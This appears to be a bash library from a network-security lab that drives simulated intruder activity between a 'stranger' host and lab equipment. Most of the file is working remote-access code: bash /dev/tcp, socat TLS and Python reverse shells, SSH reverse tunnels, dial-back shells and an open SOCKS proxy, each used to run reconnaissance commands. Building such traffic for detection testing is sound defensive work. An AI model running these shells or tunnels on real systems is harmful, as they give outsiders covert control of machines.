# SPDX-License-Identifier: Apache-2.0
# What people use who should not be there: listeners, tunnels and proxies outside, and their other ends on equipment. Sourced by make.sh.

readonly looks=('id' 'uname -nmo' 'cat /etc/resolv.conf' 'ls -l /root')

# reverse_shell HOST PORT: bash connects out to the stranger's ncat, who types.
reverse_shell() {
    typed "${looks[@]}" exit | on stranger ncat -n -l "$2" >/dev/null &
    local listener=$!
    wait_for stranger tcp "$2"
    on "$1" bash -c "bash -i >& /dev/tcp/${address[stranger]}/$2 0>&1" || true
    wait "$listener" || true
}

# tls_shell HOST PORT VERSION: the same inside TLS, with a terminal of its own; the stranger's certificate is self-signed.
tls_shell() {
    certificate stranger localhost
    local listen=OPENSSL-LISTEN:$2,reuseaddr,cert=$lab/stranger/tls.pem,verify=0,openssl-max-proto-version=$3
    typed "${looks[@]}" exit | on stranger socat "$listen" - >/dev/null &
    local listener=$!
    wait_for stranger tcp "$2"
    on "$1" socat "OPENSSL:${address[stranger]}:$2,verify=0" "EXEC:bash -i,pty,stderr,setsid,sigint,sane" || true
    wait "$listener" || true
}

# python_shell HOST PORT: Python connects out, hands the socket to a shell, and the stranger asks for a terminal.
python_shell() {
    typed 'id' "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'" 'uname -nmo' exit exit | on stranger ncat -n -l "$2" >/dev/null &
    local listener=$!
    wait_for stranger tcp "$2"
    on "$1" python3 -c 'import os, socket, subprocess, sys
peer = socket.create_connection((sys.argv[1], int(sys.argv[2])))
for number in (0, 1, 2): os.dup2(peer.fileno(), number)
subprocess.call(["/bin/sh", "-i"])' "${address[stranger]}" "$2" || true
    wait "$listener" || true
}

# ssh_out HOST PORT: an interactive SSH session from equipment to the stranger's machine.
ssh_out() { typed 'id' 'ls -l' exit | on "$1" ssh -tt -p "$2" "root@${address[stranger]}" >/dev/null 2>&1 || true; }

# ssh_reverse_tunnel HOST: the equipment's own SSH server, reachable from the stranger's machine on port 2222, and used.
ssh_reverse_tunnel() {
    start "$1" ssh -N -R 2222:127.0.0.1:22 "root@${address[stranger]}"
    wait_for stranger tcp 2222
    typed "${looks[@]}" exit | on stranger ssh -tt -p 2222 root@127.0.0.1 >/dev/null 2>&1 || true
}

# ssh_dial_back HOST PORT: equipment opens the TCP session, and is the SSH server in it.
ssh_dial_back() {
    typed 'id' 'uname -nmo' exit | on stranger ssh -tt -o "ProxyCommand=ncat -n -l $2" root@dialled-back >/dev/null 2>&1 &
    local listener=$!
    wait_for stranger tcp "$2"
    on "$1" socat "TCP:${address[stranger]}:$2" "EXEC:/usr/sbin/sshd -i -f $lab/$1/sshd_config,nofork" 2>/dev/null || true
    wait "$listener" || true
}

# tls_dial_back HOST PORT: equipment opens the TCP session, and is the TLS server in it.
tls_dial_back() {
    certificate "$1" "$1"
    on stranger python3 -c 'import socket, ssl, sys, time
listener = socket.create_server(("", int(sys.argv[1])))
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
peer = context.wrap_socket(listener.accept()[0])
for line in ("id", "uname -nmo", "exit"):
    time.sleep(1.5)
    peer.sendall(line.encode() + b"\n")
while peer.recv(4096): pass' "$2" &
    local listener=$!
    wait_for stranger tcp "$2"
    on "$1" python3 -c 'import socket, ssl, subprocess, sys
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(sys.argv[3])
peer = context.wrap_socket(socket.create_connection((sys.argv[1], int(sys.argv[2]))), server_side=True)
for line in peer.makefile():
    if line.strip() == "exit": break
    peer.sendall(subprocess.run(line, shell=True, capture_output=True).stdout)
peer.unwrap()' "${address[stranger]}" "$2" "$lab/$1/tls.pem" || true
    wait "$listener" || true
}

# socks_server HOST PORT: OpenSSH as a SOCKS server for everybody who reaches the port.
socks_server() {
    start "$1" ssh -N -D "0.0.0.0:$2" root@127.0.0.1
    wait_for "$1" tcp "$2"
}
